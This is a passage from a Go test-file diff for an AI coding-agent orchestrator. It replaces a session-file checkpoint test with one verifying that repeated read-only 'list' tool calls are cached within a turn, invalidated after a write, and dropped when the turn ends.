+		t.Fatalf("unexpected usage output: %q", got)
 	}
-	defer store.Close()
+}
 
-	sid := storage.NewSessionID()
-	if err := store.CreateSession(storage.SessionMeta{
-		ID:    sid,
-		Agent: "build",
-		Model: "test",
-		CWD:   root,
-	}); err != nil {
-		t.Fatalf("create session: %v", err)
+func TestRunTurnCachesIdenticalReadOnlyCalls(t *testing.T) {
+	toolCall := func(id, name, args string) chat.ToolCall {
+		return chat.ToolCall{ID: id, Type: "function", Function: chat.ToolCallFunction{Name: name, Arguments: args}}
 	}
-
 	prov := &scriptedProvider{
-		model: "test",
+		model: "demo-model",
 		responses: []provider.ChatResponse{
-			{
-				ToolCalls: []chat.ToolCall{
-					{
-						ID:   "call_read_1",
-						Type: "function",
-						Function: chat.ToolCallFunction{
-							Name:      "read",
-							Arguments: `{"path":"README.md"}`,
-						},
-					},
-				},
-			},
+			{ToolCalls: []chat.ToolCall{toolCall("call_1", "list", `{"path":"src"}`)}},
+			{ToolCalls: []chat.ToolCall{toolCall("call_2", "list", `{ "path": "src" }`)}},
+			{ToolCalls: []chat.ToolCall{toolCall("call_3", "write", `{"path":"src/a.go","content":"package a"}`)}},
+			{ToolCalls: []chat.ToolCall{toolCall("call_4", "list", `{"path":"src"}`)}},
+			{Content: "done"},
 		},
 	}
-	registry := tools.NewRegistry(mockTool{name: "read", result: `{"ok":true,"path":"README.md","content":"hello"}`})
-	orch := New(prov, registry, Options{
-		ActiveAgent:   agent.Resolve("build", config.AgentConfig{}),
-		Store:         store,
-		SessionIDRef:  &sid,
-		WorkspaceRoot: root,
-	})
+	list := &recordingTool{name: "list", result: `{"ok":true,"items":["a.go"]}`}
+	registry := tools.NewRegistry(list, mockTool{name: "write", result: `{"ok":true,"path":"src/a.go","operation":"updated"}`})
+	orch := New(prov, registry, Options{MaxSteps: 6})
 
-	if _, err := orch.RunTurn(context.Background(), "read the file", nil); err == nil {
-		t.Fatal("expected provider error after scripted tool call")
+	if _, err := orch.RunTurn(context.Background(), "look at src", nil); err != nil {
+		t.Fatalf("RunTurn: %v", err)
+	}
+	if len(list.args) != 2 {
+		t.Fatalf("list should run once before the write and once after it, ran %d times: %v", len(list.args), list.args)
+	}
+	results := 0
+	for _, msg := range orch.Messages() {
+		if msg.Role == "tool" && msg.Name == "list" && msg.Content == list.result {
+			results++
+		}
+	}
+	if results != 3 {
+		t.Fatalf("every list call should still get a tool result, got %d", results)
 	}
 
-	sessionPath := filepath.Join(root, ".coder", "sessions", sid+".json")
-	data, err := os.ReadFile(sessionPath)
-	if err != nil {
-		t.Fatalf("read session file: %v", err)
+	if _, err := orch.registry.Execute(context.Background(), "list", json.RawMessage(`{"path":"src"}`)); err != nil {
+		t.Fatalf("direct list: %v", err)
 	}
-	content := string(data)
-	if !strings.Contains(content, `"role": "tool"`) || !strings.Contains(content, `"name": "read"`) {
-		t.Fatalf("expected tool checkpoint in session file, got %s", content)
+	if orch.turnCache != nil {
+		t.Fatal("turn cache should be dropped when the turn ends")
 	}
 }